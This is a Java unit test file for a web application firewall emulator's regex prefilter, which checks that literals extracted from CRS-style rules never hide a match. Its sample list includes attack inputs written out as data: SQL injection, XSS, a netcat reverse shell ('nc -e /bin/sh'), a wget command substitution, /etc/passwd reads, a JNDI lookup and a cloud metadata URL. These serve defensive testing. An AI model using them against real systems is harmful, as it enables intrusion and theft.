package dev.powerpages.emulator.waf.engine;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;
import java.util.regex.PatternSyntaxException;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * The literals a regex's every match must contain one of, which let a value holding none of them
 * skip the regex; when the analysis is unsure there must be no set at all.
 */
class RequiredLiteralsTest {

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiterString = " => ", quoteCharacter = '\u0000', textBlock = """
			(?i)[a-z]+=(?:[^:=]+:[^;]+;)*?[^:=]+:url\\(javascript => (?i)[:url(javascript]
			(?:get|post)[\\s]+[^\\s]+[\\s]+http/[0-9] => [http/0, http/1, http/2, http/3, http/4, http/5, http/6, http/7, http/8, http/9]
			s(?:c[,;].*|et) => [sc,, sc;, set]
			(?i)c["\\^]*m["\\^]*d => (?i)without "^ [cmd]
			foo|barbaz => [barbaz, foo]
			(?:union|select)\\b.*?from => [select, union]
			foo| => null
			foo|(?:bar)? => null
			(?i)foo(?:bar)?bazz => (?i)[foobarbazz, foobazz]
			abc? => [ab]
			(?:a|b)*cd => [cd]
			(?:ab){2} => [ab]
			[abc]de => [ade, bde, cde]
			[^a]bc => [bc]
			\\{.*}] => [}]]
			\\(x\\)\\s*; => [(x)]
			(?i)GET\\x20/ => (?i)[get /]
			a(?i)BCDEF => (?i)[abcdef]
			(?i:select)\\w+from => (?i)[select]
			\\Qa.b\\E => [a.b]
			(a+)\\1xyz => [xyz]
			(?<=foo)bar => [bar]
			(?=.*admin)x => [x]
			(?!admin)\\w+ => null
			(?x)a b => null
			(?u)(?i)k => null
			[[a-c]]de => null
			[a&&b]cd => null
			a\\0101 => null
			""")
    void findsOnlyWhatEveryMatchMustContain(String pattern, String literals) {
        assertThat(String.valueOf(RequiredLiterals.of(pattern))).isEqualTo(literals);
    }

    /** The alternation-heavy CRS rules the original single-literal prefilter could not analyse. */
    @Test
    void findsTheBranchLiteralsOfAlternationHeavyCrsRules() throws IOException {
        assertThat(RequiredLiterals.of(ruleRegex("941140")).literals()).containsExactly(":url(javascript");
        RequiredLiterals sqli = RequiredLiterals.of(ruleRegex("942190"));
        assertThat(sqli.ignoreCase()).isTrue();
        // The first branch, a quote then "!" or a keyword, is required by its less frequent part.
        assertThat(sqli.literals())
                .containsExactly(
                        "!",
                        "connection_id",
                        "database",
                        "dumpfile",
                        "having",
                        "iif",
                        "master.",
                        "outfile",
                        "schema",
                        "select",
                        "union",
                        "user",
                        "xp_cmdshell");
        RequiredLiterals node = RequiredLiterals.of(ruleRegex("934100"));
        assertThat(node.ignoreCase()).isFalse();
        // Over 100 literals, so the longest are cut (console["debug"] to console["debug).
        assertThat(node.literals())
                .contains(
                        "String.fromCharCode",
                        "Module:prototype",
                        "this.constructor",
                        "module.exports=",
                        "child_process",
                        "function(){",
                        "eval",
                        "process.spawn",
                        "console[\"debug")
                .allMatch(literal -> literal.length() >= 4);
        // Windows commands with ^ and " between their letters: whole words once those are left out.
        RequiredLiterals windows = RequiredLiterals.of(ruleRegex("932380"));
        assertThat(windows.ignorable()).isEqualTo("\"^");
        assertThat(windows.literals())
                .contains("certutil", "bitsadmin", "cmd")
                .allMatch(literal -> literal.length() >= 2);
        assertThat(windows.foundIn("x & c^e\"rt^ut^il -urlcache")).isTrue();
        assertThat(RequiredLiterals.of(ruleRegex("944100")).literals())
                .containsExactly("java.lang.processbuilder", "java.lang.runtime");
    }

    @Test
    void ignoringCaseFoldsUsAsciiOnlyAsJavaRegexDoes() {
        RequiredLiterals kelvin = RequiredLiterals.of("(?i)kelvin");

        assertThat(kelvin.foundIn("Absolute KELVIN scale")).isTrue();
        // U+212A KELVIN SIGN folds to k only with UNICODE_CASE, which the engine does not set.
        assertThat(kelvin.foundIn("\u212Aelvin")).isFalse();
        assertThat(Pattern.compile("(?i)kelvin", Pattern.DOTALL)
                        .matcher("\u212Aelvin")
                        .find())
                .isFalse();
        assertThat(RequiredLiterals.of("Kelvin").foundIn("kelvin")).isFalse();
    }

    @Test
    void scansForAnyOfTheLiteralsIncludingAtTheEnd() {
        RequiredLiterals any = RequiredLiterals.of("(?:select|union|xp_cmdshell)");

        assertThat(any.foundIn("1; exec xp_cmdshell")).isTrue();
        assertThat(any.foundIn("a union")).isTrue();
        assertThat(any.foundIn("selec")).isFalse();
        assertThat(any.foundIn("")).isFalse();
    }

    /**
     * Soundness on random patterns built from every construct the analysis reads (classes,
     * groups, alternations, quantifiers, flags, lookarounds, backreferences): whenever
     * java.util.regex finds a match in a random string, the string holds one of the literals.
     */
    @Test
    void randomPatternsNeverMatchAValueWithoutTheirLiterals() {
        Random random = new Random(20261123L);
        int analysed = 0;
        int matched = 0;
        for (int n = 0; n < 6000; n++) {
            String pattern = randomPattern(random, 3);
            Pattern compiled;
            try {
                compiled = Pattern.compile(pattern, Pattern.DOTALL);
            } catch (PatternSyntaxException invalid) {
                continue;
            }
            // As chosen, and always also read without the Windows evasion characters.
            RequiredLiterals chosen = RequiredLiterals.of(pattern);
            RequiredLiterals withoutEvasion = RequiredLiterals.of(pattern, "\"^");
            if (chosen == null && withoutEvasion == null) {
                continue;
            }
            analysed++;
            for (int k = 0; k < 150; k++) {
                String value = randomValue(random);
                if (compiled.matcher(value).find()) {
                    matched++;
                    for (RequiredLiterals literals : new RequiredLiterals[] {chosen, withoutEvasion}) {
                        if (literals != null) {
                            assertThat(literals.foundIn(value))
                                    .as("%s matches %s but lacks all of %s", pattern, value, literals)
                                    .isTrue();
                        }
                    }
                }
            }
        }
        assertThat(analysed).isGreaterThan(2000);
        assertThat(matched).isGreaterThan(10_000);
    }

    private static String randomPattern(Random random, int depth) {
        StringBuilder out = new StringBuilder();
        int parts = 1 + random.nextInt(4);
        for (int i = 0; i < parts; i++) {
            int kind = random.nextInt(depth > 0 ? 16 : 9);
            String atom = switch (kind) {
                case 0, 1, 2 -> String.valueOf("abcAB".charAt(random.nextInt(5)));
                case 3 ->
                    List.of("[ab]", "[^a]", "[a-c]", "[Bb]", "[\\x61c]", "[a-]", "[\\s,]", "[\"\\^]", "[\\d\\^]")
                            .get(random.nextInt(9));
                case 4 ->
                    List.of(".", "\\w", "\\s", "\\d", "\\x62", "\\Qa.\\E", "\\Q^\"\\E", "\\.", "\"", "\\^", "}", "]")
                            .get(random.nextInt(12));
                case 5 -> List.of("^", "$", "\\b", "(?i)", "(?-i)").get(random.nextInt(5));
                case 6, 7, 8 -> String.valueOf("abc".charAt(random.nextInt(3))) + "bca".charAt(random.nextInt(3));
                case 9, 10 -> "(?:" + randomPattern(random, depth - 1) + "|" + randomPattern(random, depth - 1) + ")";
                case 11 -> "(" + randomPattern(random, depth - 1) + ")";
                case 12 -> "(?i:" + randomPattern(random, depth - 1) + ")";
                case 13 -> List.of("(?=", "(?!", "(?<=", "(?>").get(random.nextInt(4)) + randomPattern(random, 0) + ")";
                case 14 -> "\\1";
                default -> "(?:" + randomPattern(random, depth - 1) + "|)";
            };
            out.append(atom);
            if (random.nextInt(3) == 0) {
                out.append(List.of("?", "*", "+", "{2}", "{0,2}", "{1,}", "*?", "+?", "?+")
                        .get(random.nextInt(9)));
            }
        }
        return out.toString();
    }

    /**
     * Letters of both cases, a dot, a space, a digit, the Windows evasion characters " and ^,
     * closing brackets, and the Kelvin sign (which (?i) must not fold to k).
     */
    private static final String VALUE_CHARS = "abcABCx. 1\"^^}]\u212A";

    private static String randomValue(Random random) {
        StringBuilder value = new StringBuilder();
        int length = random.nextInt(14);
        for (int i = 0; i < length; i++) {
            value.append(VALUE_CHARS.charAt(random.nextInt(VALUE_CHARS.length())));
        }
        return value.toString();
    }

    /** The regex of the rule with {@code id} in the rule files, in java.util.regex syntax. */
    static String ruleRegex(String id) throws IOException {
        try (Stream<Path> files = Files.list(Path.of("src/main/resources/waf/drs"))) {
            for (Path file : files.filter(f -> f.toString().endsWith(".conf")).toList()) {
                List<String> lines = Files.readAllLines(file);
                for (int i = 0; i < lines.size(); i++) {
                    if (!lines.get(i).contains("\"id:" + id + ",")) {
                        continue;
                    }
                    for (int j = i; j >= 0; j--) {
                        String pattern = rxArgument(lines.get(j));
                        if (pattern != null) {
                            return pattern;
                        }
                    }
                }
            }
        }
        throw new IllegalArgumentException("No @rx rule " + id);
    }

    private static String rxArgument(String line) {
        int at = line.indexOf("\"@rx ");
        int end = line.lastIndexOf('"');
        return at < 0 || end <= at + 5
                ? null
                : Operators.javaPattern(line.substring(at + 5, end).replace("\\\"", "\""));
    }

    /**
     * Soundness on the real rule data: for every @rx of the rule files that has literals, each
     * sample the full regex matches contains one of its literals (so the prefilter never hides a match).
     */
    @Test
    void everyRuleFileRegexMatchesOnlyValuesHoldingOneOfItsLiterals() throws IOException {
        List<String> samples = new ArrayList<>(List.of(
                "<a style=x:url(javascript:alert(1))>",
                "String.fromCharCode(88)",
                "1' union select @@version--",
                "exec master..xp_cmdshell 'dir'",
                "process.mainModule.require('child_process')",
                "';SELECT user()",
                "x' iif(1=1,1,0)",
                "{{constructor.constructor('return this')()}}",
                "busybox nc -e /bin/sh",
                ";/bin/ca\\t /et?/passwd",
                "$(wget http://x/y)",
                "<svg onload=alert(1)>",
                "GET /x HTTP/1.1",
                "$f (1);",
                "eval(x)",
                "1' union select 1--",
                "<script>alert(1)</script>",
                "../../etc/passwd",
                "{{7*7}}",
                "${jndi:ldap://x/a}",
                "; cat /etc/passwd",
                "<?php system('id'); ?>",
                "javascript:alert(1)",
                "a=b;c:url(JavaScript:x)",
                "x' OR 1=1 --",
                "<img src=x onerror=alert(1)>",
                "/bin/bash -c id",
                "ping -c 1 127.0.0.1",
                "select * from users where id=1",
                "file:///etc/passwd",
                "http://169.254.169.254/"));
        HostileInputs inputs = new HostileInputs(7);
        for (int i = 0; i < 200; i++) {
            samples.add(inputs.next(400));
        }
        int withLiteral = 0;
        int matched = 0;
        try (Stream<Path> files = Files.list(Path.of("src/main/resources/waf/drs"))) {
            for (Path file : files.filter(f -> f.toString().endsWith(".conf")).toList()) {
                for (String line : Files.readAllLines(file)) {
                    String java = rxArgument(line);
                    RequiredLiterals literals = java == null ? null : RequiredLiterals.of(java);
                    if (literals == null) {
                        continue;
                    }
                    withLiteral++;
                    Pattern pattern = Pattern.compile(java, Pattern.DOTALL);
                    for (String sample : samples) {
                        if (pattern.matcher(sample).find()) {
                            matched++;
                            assertThat(literals.foundIn(sample))
                                    .as("%s matches %s but lacks all of %s", java, sample, literals)
                                    .isTrue();
                        }
                    }
                }
            }
        }
        assertThat(withLiteral).isGreaterThan(20);
        assertThat(matched).isPositive();
    }
}
